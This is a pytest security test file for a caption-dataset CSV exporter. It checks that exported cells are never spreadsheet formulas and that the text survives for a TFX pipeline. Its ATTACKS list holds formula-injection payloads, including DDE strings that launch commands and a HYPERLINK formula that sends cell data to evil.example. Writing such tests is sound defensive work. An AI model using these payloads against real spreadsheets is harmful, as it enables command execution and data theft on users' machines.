"""captions.csv in a spreadsheet: no cell is a formula, and TFX still reads the same words."""

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from captionflow.captions import clean_caption
from captionflow.csv_export import FILE, export_csv, without_formulas
from tests.test_preprocess import CAPTION, ingest_records

pytestmark = pytest.mark.security

FORMULAS = "=+-@＝＋－＠\t\r\0"
ATTACKS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"a dog")', "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1",
    '"=1+1', '" =1+1"', "“=1+1”", "\u200b=1+1", "\0=1+1", "\0", "A dog;=1+1", 'A dog; "=1+1"', "a;;-1",
    "a,=1+1", 'a",=1+1', "a\t=1+1", "see http://a.example/;=1+1 now",
]  # fmt: skip


def exported(tmp_path: Path, **attack: str) -> str:
    records = [replace(CAPTION, id=-7, image_id=-3, **attack), CAPTION]
    return Path(export_csv(ingest_records(records, tmp_path), str(tmp_path / "csv")), FILE).read_text()


def is_formula(cell: str) -> bool:
    return cell.lstrip(' "“\u00a0\u200b').startswith(tuple(FORMULAS))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("column", ["caption", "image_url", "image_name", "image_license"])
def test_no_text_is_a_formula_whatever_parts_the_cells(tmp_path: Path, column: str, attack: str) -> None:
    lines = exported(tmp_path, **{column: attack}).splitlines()
    assert len(lines) == 3
    (row,) = csv.DictReader(lines[:2])
    assert not is_formula(row[column])
    assert (row["id"], row["image_id"]) == ("-7", "-3")  # numbers, which no text can stand behind
    # A spreadsheet may part at semicolons too: by the user's locale, or by LibreOffice's own choice.
    for cells in (lines[1].split(";"), *csv.reader(lines[1:2], delimiter=";")):
        assert not any(map(is_formula, cells[1:]))


@pytest.mark.parametrize(
    "text", ["A dog.", "A black-and-white cat; it sleeps", "'=1", "http://x/a=b?c=-1", "", "5 = 5"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert without_formulas(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"])) | st.text("=+-@;'\"\0 aΣσ\u0301.:/w"))
def test_the_words_stay_the_same(text: str) -> None:
    assert clean_caption(without_formulas(text)) == clean_caption(text)
    assert without_formulas(without_formulas(text)) == without_formulas(text)


def test_tfx_reads_the_same_words(tmp_path: Path) -> None:
    from tfx_bsl.coders.csv_decoder import ParseCSVLine

    from tfx_pipeline.features import clean

    records = [replace(CAPTION, id=i, image_id=i, caption=attack) for i, attack in enumerate(ATTACKS)]
    lines = Path(export_csv(ingest_records(records, tmp_path), str(tmp_path / "csv")), FILE).read_text().splitlines()
    parser = ParseCSVLine(",")
    parser.setup()
    cells = [cells for line in lines[1:] for cells, _ in parser.process(line)]
    assert [int(row[1]) for row in cells] == list(range(len(ATTACKS)))
    assert [text.decode() for text in clean([row[2] for row in cells]).numpy()] == list(map(clean_caption, ATTACKS))
